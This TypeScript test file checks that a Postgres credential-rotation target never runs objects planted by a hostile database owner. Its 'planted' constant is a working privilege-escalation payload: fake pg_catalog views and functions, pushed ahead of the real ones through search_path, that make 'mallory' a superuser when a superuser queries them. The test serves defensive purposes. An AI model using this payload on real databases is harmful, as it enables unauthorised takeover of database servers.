// A database's owner plants objects of their own under the server's names: a superuser that works there must not run them.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import pg from "pg";
import type { DatabaseCredential } from "../../src/targets/database-secret.ts";
import { postgres } from "../../src/targets/postgres.ts";
import type { Access } from "../../src/targets/target.ts";
import { type PostgresServer, postgresSkip, startPostgres } from "../support/postgres-server.ts";
import { tools } from "./contract.ts";

/** Makes its owner a superuser as soon as a superuser reads it. */
const planted = `
  create schema evil;
  create function evil.seize() returns bool language plpgsql as $$
    begin
      if (select rolsuper from pg_catalog.pg_roles where rolname = current_user) then
        execute 'alter role mallory superuser';
      end if;
      return true;
    end $$;
  create function evil.pg_has_role(oid, oid, text) returns bool language sql as 'select evil.seize()';
  create view evil.pg_roles as select * from pg_catalog.pg_roles where evil.seize();
  create view evil.pg_auth_members as select * from pg_catalog.pg_auth_members where evil.seize();
  create view evil.pg_settings as select * from pg_catalog.pg_settings where evil.seize();
  alter database mallory set search_path = evil, pg_catalog;`;

describe("a database whose owner is hostile", { skip: postgresSkip }, () => {
  let server: PostgresServer;
  before(async () => {
    server = await startPostgres();
  });
  after(() => server[Symbol.asyncDispose]());

  async function run(text: string, as: Partial<DatabaseCredential> = {}): Promise<Record<string, unknown>[]> {
    const { host, port, user, password } = server;
    const own = as.username === undefined ? { user, password, database: "postgres" } : loginOf(as);
    const client = new pg.Client({ host, port, ...own });
    await client.connect();
    const answer = await client.query(text).finally(() => client.end());
    return answer.rows;
  }
  const loginOf = ({ username, password }: Partial<DatabaseCredential>) => ({ user: username, password, database: "mallory" });

  test("a superuser looks, compares, clones and ends there, and nothing of the owner's is run", async () => {
    await run("create role mallory login password 'first'");
    await run("create database mallory owner mallory");
    const { host, port } = server;
    const current = { engine: "postgres", host, port, username: "mallory", password: "first", dbname: "mallory" };
    await run(planted, current);
    const admin = { ...current, username: server.user, password: server.password };
    const access: Access<DatabaseCredential> = { current, admin };
    const isSeized = async () => (await run("select rolsuper from pg_roles where rolname = 'mallory'"))[0]?.rolsuper;

    await postgres.check?.(access, "alternating-users", tools());
    assert.equal(await isSeized(), false, "check");
    await postgres.compare?.(access, tools());
    assert.equal(await isSeized(), false, "compare");
    const pending = await postgres.create(current, "alternating-users", tools());
    for (const turn of ["first", "second"]) {
      await postgres.set({ ...access, pending, previous: undefined }, "alternating-users", tools());
      assert.equal(await isSeized(), false, `the ${turn} set`);
    }
    await postgres.test(pending, tools());
    await postgres.retire?.(current, { current: pending, admin }, "alternating-users", tools());
    assert.equal(await isSeized(), false, "retire");
    const own = { ...current, username: "mallory_clone", password: "lost" };
    const next = await postgres.create(own, "single-user", tools());
    await postgres.set({ current: own, pending: next, previous: undefined, admin }, "single-user", tools());
    assert.equal(await isSeized(), false, "a single user's way out");
    await postgres.test(next, tools());
  });
});
